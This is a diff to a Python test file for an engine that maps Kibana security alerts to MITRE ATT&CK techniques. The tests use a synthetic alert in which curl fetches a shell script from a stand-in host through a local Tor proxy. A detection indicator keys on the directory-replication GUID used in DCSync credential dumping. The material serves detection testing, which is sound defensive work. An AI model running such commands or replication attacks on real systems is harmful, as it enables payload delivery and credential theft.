@@ -212,31 +212,54 @@ def test_platform_detection_reads_only_the_platform_inputs(index: int):
 
 
 def test_what_normalising_hides_from_an_indicator_still_splits_key_and_signature(tmp_path: Path):
-    """A GUID normalises to <guid>, but dcsync-replication-rights fires on one GUID only (and only for a
-    user that is not a machine account): those alerts must not share a mapping or an outcome."""
+    """An IP and a port normalise to <ip>:<n>, but tor-proxy fires on 127.0.0.1:9050 only: those alerts
+    must not share a mapping or an outcome; another host and PID with the same reading must."""
     engine = _engine(tmp_path)
 
-    def event(guid: str, user: str) -> dict[str, Any]:
+    def alert(proxy: str, host: str, pid: int) -> dict[str, Any]:
         return {
-            "kibana.alert.rule.name": "Directory Service Access",
+            "kibana.alert.rule.name": "Unusual Network Client",
             "kibana.alert.risk_score": 73,
-            "event": {"code": "4662", "category": ["iam"]},
-            "user": {"name": user},
-            "message": f"An operation was performed on an object. Properties: {{{guid}}} Control Access",
+            "host": {"name": host, "os": {"type": "linux"}},
+            "process": {"pid": pid, "command_line": f"curl --socks5-hostname {proxy} http://files.example.org/a.sh"},
         }
-
-    replication, other = "1131f6ad-9c07-11d1-f79f-00c04fb984f2", "6e1c1a0e-0000-4a7b-9c1d-5f2d8e3a9b71"
-    first, second = engine.process(event(other, "alice")), engine.process(event(replication, "alice"))
-    machine = engine.process(event(replication, "DC01$"))
-    again = engine.process(event(replication, "bob"))
 
     def techniques(outcome: Any) -> set[str]:
         return {t["id"] for t in outcome.alert["attackmap"]["techniques"]}
 
-    assert "T1003.006" not in techniques(first) and not second.remembered
-    assert "T1003.006" in techniques(second)
-    assert "T1003.006" not in techniques(machine) and not machine.remembered
-    assert again.remembered and "T1003.006" in techniques(again)  # another user: same reading, same outcome
-    key = {id(o): o.alert["attackmap"]["mapping_key"] for o in (first, second, machine, again)}
-    # The indicators' hits are in the key; the GUID and the user beyond what they decide are not.
-    assert key[id(first)] == key[id(machine)] != key[id(second)] == key[id(again)]
+    other = engine.process(alert("10.20.30.40:9050", "web-1", 4242))
+    tor = engine.process(alert("127.0.0.1:9050", "web-1", 4242))
+    again = engine.process(alert("127.0.0.1:9050", "web-2", 5151))
+    assert "T1090.003" not in techniques(other) and not tor.remembered and not tor.cache_hit
+    assert "T1090.003" in techniques(tor)
+    assert again.remembered and techniques(again) == techniques(tor)
+    keys = [o.alert["attackmap"]["mapping_key"] for o in (other, tor, again)]
+    assert keys[0] != keys[1] == keys[2]  # the indicators' hits are in the key, the host and PID are not
+
+
+def test_an_identity_field_an_indicator_requires_enters_as_what_it_decides(catalog):
+    """A `requires` on user.name (not a machine account): users the pattern accepts share a signature,
+    a machine account does not; with no such indicator, the user is only present or absent."""
+    from mitre.indicators import Indicator, IndicatorSet
+    from mitre.signature import OutcomeSignature
+
+    replication = Indicator(
+        id="replication-by-a-person",
+        name="test",
+        techniques=("T1003.006",),
+        fields=("message",),
+        pattern="1131f6ad-9c07-11d1-f79f-00c04fb984f2",
+        requires={"user.name": r"[^$\s]\s*$"},
+        confidence=0.85,
+    )
+    sign = OutcomeSignature(IndicatorSet([replication], catalog))
+    message = "Properties: {1131f6ad-9c07-11d1-f79f-00c04fb984f2} Control Access"
+
+    def flat(user: str, guid_message: str = message) -> dict[str, Any]:
+        return flatten_alert({"kibana.alert.rule.name": "r", "user": {"name": user}, "message": guid_message})
+
+    assert sign(flat("alice")) == sign(flat("bob")) != sign(flat("DC01$"))
+    other_guid = message.replace("1131f6ad", "2222f6ad")
+    assert sign(flat("alice", other_guid)) != sign(flat("alice"))  # normalised alike, read differently
+    plain = OutcomeSignature(IndicatorSet([], catalog))
+    assert plain(flat("alice")) == plain(flat("DC01$"))
